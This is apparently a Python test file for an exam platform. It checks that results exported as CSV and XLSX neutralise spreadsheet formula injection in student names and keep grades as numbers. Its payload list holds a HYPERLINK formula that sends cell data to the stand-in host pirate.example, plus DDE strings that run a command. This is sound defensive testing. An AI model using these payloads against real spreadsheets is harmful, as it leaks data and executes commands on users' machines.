"""Exam results exports (resultats.csv / .xlsx): French CSV, numbers as numbers, no formulas."""

import csv
import io

import openpyxl

from agora.exam import closing, service

# Names a hostile student could type (or a teacher import): each one a formula in a spreadsheet.
FORMULAS = [
    '=HYPERLINK("http://pirate.example/?"&A1,"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def _graded_exam(db, clock, make_exam, classe, make_student):
    """Every student of the class has a formula as name; each starts and hands in a copy."""
    exam = make_exam()
    for i, name in enumerate(FORMULAS):
        student = make_student(classe=classe, prenom=name, nom=f"{name} {i}")
        copy = service.start(db, exam, student, clock(), "127.0.0.1", "test")
        service.submit(db, copy, clock, "127.0.0.1", "test")
    db.commit()
    assert closing.finalise(db, clock(), exam.id) == len(FORMULAS)
    db.commit()
    return exam


def test_results_csv_writes_formula_names_as_text_and_marks_as_numbers(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam = _graded_exam(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    body = client.get(f"/enseignant/evaluations/{exam.id}/resultats.csv").content
    header, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";")
    assert sorted(row[1] for row in rows) == sorted("'" + name for name in FORMULAS)
    for row in rows:
        assert row[0] == f"{row[1]} {FORMULAS.index(row[1][1:])}"
        note = row[header.index("Note /20")]
        assert note.replace(",", "").isdigit() and "," in note  # « 0,00 »: a French number


def test_results_xlsx_never_holds_a_formula(
    client, db, clock, teacher, classe, make_exam, make_student, as_teacher
):
    exam = _graded_exam(db, clock, make_exam, classe, make_student)
    as_teacher(client, teacher)
    body = client.get(f"/enseignant/evaluations/{exam.id}/resultats.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    names = [sheet.cell(r, 2) for r in range(2, sheet.max_row + 1)]
    assert sorted(c.value for c in names) == sorted(FORMULAS)
    assert [(c.data_type, c.quotePrefix) for c in names] == [("s", True)] * len(FORMULAS)
    note_column = [c.value for c in sheet[1]].index("Note /20") + 1
    notes = [sheet.cell(r, note_column) for r in range(2, sheet.max_row + 1)]
    assert all(c.data_type == "n" and isinstance(c.value, int | float) for c in notes)
